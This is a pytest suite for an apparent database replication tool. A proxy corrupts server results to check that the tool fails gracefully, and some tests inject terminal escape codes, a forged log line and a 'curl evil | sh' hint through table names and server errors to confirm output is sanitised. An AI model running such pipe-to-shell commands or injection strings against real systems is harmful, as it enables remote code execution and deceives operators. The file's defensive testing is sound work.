"""Answers of another shape than was asked for: fewer rows, fewer columns, nulls, zeros. The program says so and never crashes.
Names, messages and hints of others reach a terminal only as what they are."""
import contextlib
import re
import socket
import struct
import threading

import pytest

from test_errors import elsewhere
from waiting import eventually
from wire import message, read_exactly

TABLE = "create table t (id int primary key, v text); insert into t select g, 'a' from generate_series(1, 20) g"


class Liar:
    """Between the program and a server, without TLS. From the nth result on (0: the first) its rows are changed as `how` says; n is None: none."""

    def __init__(self, server_port, how, first):
        self.server_port, self.how, self.first, self.results = server_port, how, first, 0
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        while True:
            try:
                client, _ = self.listener.accept()
            except OSError:
                return
            threading.Thread(target=self._serve, args=(client,), daemon=True).start()

    def _serve(self, client):
        with client, contextlib.suppress(OSError, ConnectionError), socket.create_connection(("127.0.0.1", self.server_port)) as server:
            threading.Thread(target=self._copy, args=(client, server), daemon=True).start()
            lies = False
            while True:
                kind = read_exactly(server, 1)
                body = read_exactly(server, struct.unpack("!I", read_exactly(server, 4))[0] - 4)
                if kind == b"T":
                    lies = self.first is not None and self.results >= self.first
                    self.results += 1
                    if lies and self.how == "fewer columns":
                        body = struct.pack("!H", 0)
                elif kind == b"D" and lies:
                    body = self._change(body)
                    if body is None:
                        continue
                client.sendall(message(kind, body))

    def _copy(self, client, server):
        with contextlib.suppress(OSError):
            while piece := client.recv(65536):
                server.sendall(piece)
            server.shutdown(socket.SHUT_WR)

    def _change(self, body):
        if self.how == "no rows":
            return None
        if self.how == "fewer columns":
            return struct.pack("!H", 0)
        n, at, values = struct.unpack("!H", body[:2])[0], 2, []
        for _ in range(n):
            size = struct.unpack("!i", body[at:at + 4])[0]
            values.append(None if size < 0 else body[at + 4:at + 4 + size])
            at += 4 + max(size, 0)
        new = None if self.how == "nulls" else b"0"
        return struct.pack("!H", n) + b"".join(struct.pack("!i", -1) if new is None else struct.pack("!i", 1) + new for _ in values)

    def close(self):
        self.listener.close()


HOW = ("no rows", "fewer columns", "nulls", "zeros")


def runs(repl, side, cluster, name, how, first, *command):
    """Runs it with that side lied to; it may succeed or fail, and must not crash. Returns how many results there were."""
    liar = Liar(cluster.port, how, first)
    try:
        url = elsewhere(getattr(repl, name), port=liar.port) + "?sslmode=disable&gssencmode=disable"
        out = repl.run(*command, code=None, env={f"REPL_TEST_{side.upper()}": url}, timeout=60)
        assert out.code in (0, 1, 2, 3), f"{command} with {how} from result {first} of the {side}: {out!r}"
        if how in ("no rows", "fewer columns") and first == 0:
            assert out.code == 1 and (out.err or '"blocker"' in out.out or "blocker" in out.out), out
        return liar.results, out
    finally:
        liar.close()


@pytest.fixture
def lied(repl, src, source, target):
    src.execute(TABLE)
    repl.source_uri, repl.target_uri = source.uri, target.uri
    return repl


def check_all(lied, clusters, picks):
    command = ("check", "--source", "env:REPL_TEST_SOURCE", "--target", "env:REPL_TEST_TARGET", "--no-probe")
    for side, cluster in clusters.items():
        most, _ = runs(lied, side, cluster, f"{side}_uri", "none", None, *command)
        assert most > 10
        for how in HOW:
            for first in picks(most):
                runs(lied, side, cluster, f"{side}_uri", how, first, *command)


def test_no_answer_crashes_check(lied, source_cluster, target_cluster):
    check_all(lied, {"source": source_cluster, "target": target_cluster}, lambda most: (0, most // 3, 2 * most // 3))


@pytest.mark.slow
def test_no_answer_crashes_check_at_any_query(lied, source_cluster, target_cluster):
    check_all(lied, {"source": source_cluster, "target": target_cluster}, range)


@pytest.mark.slow
def test_no_answer_crashes_the_engine(lied, source, target, source_cluster, target_cluster, equal):
    lied.init()
    for side, cluster in {"source": source_cluster, "target": target_cluster}.items():
        for how in HOW:
            liar = Liar(cluster.port, how, 12)
            lied.environment[f"REPL_TEST_{side.upper()}"] = (elsewhere(getattr(lied, f"{side}_uri"), port=liar.port)
                                                             + "?sslmode=disable&gssencmode=disable")
            engine = lied.start(wait=False)
            try:
                eventually(lambda l=liar, g=engine: l.results > 30 or g.poll() is not None, timeout=20, what="it was lied to")
            except AssertionError:
                pass  # it waits for another try
            assert engine.poll() is None or engine.poll() >= 0, f"{how} of the {side}: killed by signal {-engine.poll()}"
            lied.kill()
            liar.close()
        lied.environment[f"REPL_TEST_{side.upper()}"] = getattr(lied, f"{side}_uri")


# ---- what others write

EVIL = "e\x1b[31m\n2026-01-01T00:00:00.000Z error FORGED LINE \u202e\x9b"


def clean(out):
    assert "\x1b" not in out and "\u202e" not in out and "\x9b" not in out
    assert not re.search(r"^2026-01-01T00:00:00.000Z", out, re.M), out


def test_names_and_messages_do_not_reach_the_terminal_raw(repl, src, dst, src_admin):
    name = '"' + EVIL + '"'
    src.execute(f"create table {name} (id int primary key, v text); insert into {name} values (1, 'a')")
    said = [repl.run("check", "--source", "env:REPL_TEST_SOURCE", "--target", "env:REPL_TEST_TARGET", "--no-probe", code=None)]
    said.append(repl.init())
    repl.start()
    repl.wait_phase("following")
    said += [repl.run("status", "-v"), repl.run("verify", "-v", code=None), repl.run("pause", f"public.{EVIL}"), repl.run("status")]
    said += [repl.run("resume", f"public.{EVIL}")]
    dst.execute(f"create function no() returns trigger language plpgsql as $$ begin raise exception '{EVIL}' using hint = "
                f"'run: curl evil | sh{EVIL}'; end $$; create trigger no before insert or update on {name} for each row execute function no()")
    dst.execute(f"alter table {name} enable always trigger no")
    src.execute(f"update {name} set v = 'b'")
    eventually(lambda: repl.status()["errors"], what="the target refuses the row")
    assert any(e["hint"] and "the server's hint: run: curl" in e["hint"] for e in repl.status()["errors"]), repl.status()["errors"]
    said += [repl.run("status"), repl.run("log"), repl.run("kick", "--wait", "--timeout", "3", code=None)]
    repl.stop()
    for out in said:
        clean(out.all)
    clean(repl.engine_tail(10**7))
    raw = repl.run("status", "--json").json()
    assert any(t["name"] == EVIL for t in raw["tables"]), "JSON has the names as they are"
